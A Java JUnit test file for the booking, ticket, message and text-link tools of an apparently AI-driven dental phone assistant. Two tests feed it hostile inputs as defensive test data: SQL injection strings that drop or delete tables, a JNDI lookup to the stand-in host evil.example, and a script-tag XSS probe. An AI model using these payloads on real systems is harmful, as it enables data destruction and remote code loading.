package org.telephonystack.action.tool.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.blankOrNullString;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.not;

import jakarta.inject.Inject;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.telephonystack.action.business.BusinessStore;
import org.telephonystack.action.business.Businesses;
import org.telephonystack.action.wiring.ActionTest;
import org.telephonystack.action.wiring.TestDatabase;

import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.Executors;
import java.util.stream.IntStream;

@ActionTest
class FollowUpToolsTest {

    private static final ZoneId ZONE = ZoneId.of("America/New_York");
    private static final String CALL = "CA" + "f011".repeat(8);
    private static final String CALLER = "+14155550155";

    private final ToolCalls calls = new ToolCalls(CALL);

    @Inject TestDatabase database;
    @Inject BusinessStore businesses;

    @BeforeEach
    void aDentistIsOpenEveryDay() {
        clean();
        ToolCalls.apply(businesses, Businesses.in("America/New_York"));
        database.execute("insert into calls (call_sid, caller) values ($1, $2)", CALL, CALLER);
    }

    @AfterEach
    void clean() {
        for (String table :
                List.of(
                        "tool_calls",
                        "bookings",
                        "resources",
                        "services",
                        "business",
                        "messages",
                        "tickets")) {
            database.execute("delete from " + table);
        }
        database.execute("delete from sms_outbox where recipient = $1", CALLER);
        database.execute("delete from sms_opt_outs where phone = $1", CALLER);
        database.execute("delete from calls where call_sid = $1", CALL);
        database.execute("delete from clients where phone = $1", CALLER);
    }

    @Test
    void aTicketIsOpenedOnceAndListed() {
        for (int i = 0; i < 2; i++) {
            calls.call("create_ticket", Map.of("subject", "Crown is loose"))
                    .body("outcome", equalTo("success"))
                    .body(
                            "script",
                            equalTo("I've opened a support ticket for you: Crown is loose."));
        }

        assertThat(database.count("select count(*) from tickets")).isEqualTo(1);
        database.execute("update clients set last_name = 'Lee' where phone = $1", CALLER);
        calls.call("list_tickets", Map.of("name", "Lee"), "b")
                .body("tickets[0].subject", equalTo("Crown is loose"));
    }

    /// A stream that takes a call up sends again what was under way, perhaps while it still is. Who had to wait for too long
    /// hears that it did not work; nothing was done for them.
    @ParameterizedTest
    @ValueSource(strings = {"create_ticket", "take_message"})
    void whatIsSentAgainWhileItIsCarriedOutIsCarriedOutOnce(String tool) throws Exception {
        Map<String, String> params = Map.of("subject", "Crown is loose", "message", "Call me");
        List<Callable<String>> senders =
                IntStream.range(0, 6)
                        .mapToObj(_ ->
                                (Callable<String>)
                                        () -> calls.call(tool, params).extract().path("outcome"))
                        .toList();

        List<String> outcomes;
        try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
            outcomes = threads.invokeAll(senders).stream().map(done -> done.resultNow()).toList();
        }

        assertThat(outcomes).contains("success");
        calls.call(tool, params).body("outcome", equalTo("success"));
        assertThat(
                        database.count(
                                "select (select count(*) from tickets) + (select count(*) from messages)"))
                .isEqualTo(1);
    }

    @Test
    void aMessageIsNotedOnceAlsoOfAWithheldNumber() {
        database.execute("update calls set caller = 'anonymous' where call_sid = $1", CALL);

        for (int i = 0; i < 2; i++) {
            calls.call("take_message", Map.of("message", "Please call\nMaria"))
                    .body("outcome", equalTo("success"));
        }

        assertThat(database.count("select count(*) from messages")).isEqualTo(1);
        assertThat(database.text("select body from messages where caller is null"))
                .isEqualTo("Please call Maria");
    }

    @Test
    void theLinkIsTextedOnceACallHoweverOftenItIsAskedFor() {
        for (String id : List.of("a", "a", "b")) {
            calls.call("send_booking_link", Map.of(), id)
                    .body("outcome", equalTo("success"))
                    .body("script", containsString("texting you our booking link"));
        }

        assertThat(database.count("select count(*) from sms_outbox where recipient = $1", CALLER))
                .isEqualTo(1);
        assertThat(database.text("select body from sms_outbox where recipient = $1", CALLER))
                .isEqualTo(
                        "Riverside Dental: book your appointment here: https://riverside.example/book");
    }

    @Test
    void whoOptedOutGetsNoLinkAndIsToldSo() {
        database.execute("insert into sms_opt_outs (phone, reason) values ($1, 'stop')", CALLER);

        calls.call("send_booking_link", Map.of())
                .body("outcome", equalTo("error"))
                .body("script", containsString("can't send a text"));
        assertThat(database.count("select count(*) from sms_outbox where recipient = $1", CALLER))
                .isZero();
    }

    @Test
    void aNumberGetsThreeTextsADayOfWhateverKind() {
        database.execute(
                """
                insert into sms_outbox (dedupe_key, recipient, body, state)
                select 'day:' || n, $1, '', 'sent' from generate_series(1, 3) n
                """,
                CALLER);

        calls.call("send_booking_link", Map.of()).body("outcome", equalTo("error"));
    }

    @Test
    void ofFiftyCallersForOneSlotOneGetsItAndTheOthersHearTheTruthAndAnAlternative()
            throws Exception {
        OffsetDateTime three =
                LocalDate.now(ZONE).plusDays(3).atTime(15, 0).atZone(ZONE).toOffsetDateTime();
        List<Callable<Map<String, Object>>> callers =
                IntStream.range(0, 50)
                        .mapToObj(n -> (Callable<Map<String, Object>>) () -> book(n, three))
                        .toList();

        List<Map<String, Object>> answers;
        try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
            answers = threads.invokeAll(callers).stream().map(done -> done.resultNow()).toList();
        }

        assertThat(answers)
                .filteredOn(answer -> "success".equals(answer.get("outcome")))
                .hasSize(1);
        assertThat(answers)
                .filteredOn(answer -> "error".equals(answer.get("outcome")))
                .hasSize(49)
                .allSatisfy(answer -> {
                    assertThat(answer.get("script")).asString().contains("is already taken");
                    assertThat(OffsetDateTime.parse(String.valueOf(answer.get("slot"))))
                            .isAfter(three);
                    assertThat((List<?>) answer.get("alternatives")).hasSize(2);
                });
        assertThat(database.count("select count(*) from bookings")).isEqualTo(1);
    }

    /// Whatever a model sends, there is a sentence to say, and nothing but what was asked for happens.
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "create_booking     | time    | 2020-01-01T10:00",
                "create_booking     | time    | 2026-13-45T99:99",
                "create_booking     | time    | '; drop table bookings; --",
                "create_booking     | time    | ${jndi:ldap://evil.example/x}",
                "create_booking     | service | general' or '1'='1",
                "create_booking     | phone   | +14155550199",
                "check_schedule     | time    | -999999999-01-01",
                "check_schedule     | service | <script>alert(1)</script>",
                "reschedule_booking | newTime | 2020-01-01T10:00",
                "reschedule_booking | newTime | 9999999999999999999",
                "reschedule_booking | time    | '2026-11-24T15:00' or true",
                "cancel_booking     | name    | %' or last_name like '%",
                "cancel_booking     | time    | 2026-11-24T15:00:00+99:00",
                "list_bookings      | name    | *",
                "create_ticket      | title   | a parameter that does not exist",
                "take_message       | text    | a parameter that does not exist",
            })
    void badArgumentsGetASentence(String action, String name, String value) {
        calls.call(action, Map.of(name, value))
                .body("outcome", not(blankOrNullString()))
                .body("script", not(blankOrNullString()));

        assertThat(database.count("select count(*) from bookings")).isZero();
        assertThat(database.count("select count(*) from tickets")).isZero();
        assertThat(database.count("select count(*) from messages")).isZero();
    }

    @Test
    void sqlInASubjectIsWords() {
        String subject = "x'); delete from clients; --";

        calls.call("create_ticket", Map.of("subject", subject)).body("outcome", equalTo("success"));

        assertThat(database.text("select subject from tickets")).isEqualTo(subject);
        assertThat(database.count("select count(*) from clients where phone = $1", CALLER))
                .isEqualTo(1);
    }

    /// On a machine that is busy with something else, "I can't reach our calendar" is the truth too: then it is asked again.
    private static Map<String, Object> book(int caller, OffsetDateTime time) {
        Map<String, Object> answer = bookOnce(caller, time);
        for (int i = 0; i < 20 && String.valueOf(answer.get("script")).contains("reach"); i++) {
            answer = bookOnce(caller, time);
        }
        return answer;
    }

    private static Map<String, Object> bookOnce(int caller, OffsetDateTime time) {
        return ToolCalls.post(
                        Map.of(
                                "action",
                                "create_booking",
                                "params",
                                Map.of(
                                        "phone",
                                        "+1415555%04d".formatted(1000 + caller),
                                        "time",
                                        time.toString())))
                .extract()
                .path("$");
    }
}
